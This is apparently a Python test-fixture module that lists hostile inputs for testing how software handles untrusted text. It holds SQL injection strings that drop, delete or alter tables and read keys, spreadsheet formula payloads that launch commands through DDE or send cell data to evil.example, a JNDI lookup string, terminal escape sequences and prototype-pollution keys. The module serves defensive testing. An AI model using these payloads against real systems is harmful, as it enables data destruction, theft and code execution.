"""What strangers send to do harm, by what they are after. Every text of SQL carries ``MARK``."""

from typing import Final

MARK: Final = "zqinjqz"

SQL: Final = (
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE marker; -- {MARK}",
    f"1; SELECT pg_sleep(10) -- {MARK}",
    f"1) UNION SELECT digest FROM keys -- {MARK}",  # noqa: S608 - no statement of ours
    f"{MARK}'||(SELECT version())||'",
    f'"; DELETE FROM charges; -- {MARK}',  # noqa: S608 - no statement of ours
    f"$${MARK}$$; UPDATE charges SET amount = 0; --",  # noqa: S608 - no statement of ours
    f"\\'; TRUNCATE cells; -- {MARK}",
    f"%27%3B DROP TABLE marker -- {MARK}",
    f"team) FROM marker; -- {MARK}",
    f":tenant_1 %(team)s %s {{0}} {MARK}",
    f"／*{MARK}*／ ＇ OR １＝１",  # noqa: RUF001 - full width, which some servers take for the plain
)
"""Ways out of a statement: of its strings, names, parameters, and those of a COPY."""

COPIED: Final = (*SQL, f"\\.\n{MARK}", f"\\N\t{MARK}", f"a\tb\n{MARK}", f"{MARK}\\")
"""Of what is put down by COPY, too."""

FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - in full width
    "＋1+1",  # noqa: RUF001 - likewise
    "－1+1",  # noqa: RUF001 - likewise
    "＠SUM(1)",  # noqa: RUF001 - likewise
    " =1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"a bill")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    'a","=1+1',
    "a\n=1+1",
    "'=1+1",
    "{=1+1}",
)
"""What spreadsheets run, or take for more than one cell."""

MARKUP: Final = (
    "<!channel>",
    "<!here|here>",
    "<@U0123>",
    "<#C0123>",
    "<https://evil.example|the bill>",
    "*bold* _it_ ~no~ `code`",
    "```\n<!channel>",
    "&lt;!channel&gt;",
    "&amp;lt;!everyone",
    ">quoted",
    "\u202e>lennahc!<",
)
"""What Slack would ring, link or draw."""

LINES: Final = (
    "a\nlevel=error fake line",
    "a\r\nHTTP/1.1 200 OK",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x00nul",
    "\u2028line\u2029paragraph",
    "\u202eright\u2066to left",
    '{"event": "fake"}',
    "%(asctime)s {event} ${jndi:ldap://127.0.0.1:9/a}",
    "x" * 100_000,
)
"""What makes more of a line in a log, or less of a terminal, than it is."""

KEYS: Final = (
    "__proto__",
    "__proto__.polluted",
    "constructor.prototype.polluted",
    "__class__.__init__.__globals__",
    "a.b",
    "a",
    "a.b.c",
    "",
    ".",
    "..",
    "a..b",
    ".a",
    "toString",
    "hasOwnProperty",
    ".".join(["s"] * 10_000),
    "k" * 1_000_000,
    "gen_ai.request.model.",
    "gen_ai.request.model.__proto__",
    "tenant_id",
    "$where",
    "{{7*7}}",
    "\u202ekey",
    "key\x00",
)
"""Names of attributes, for whoever makes objects of them."""
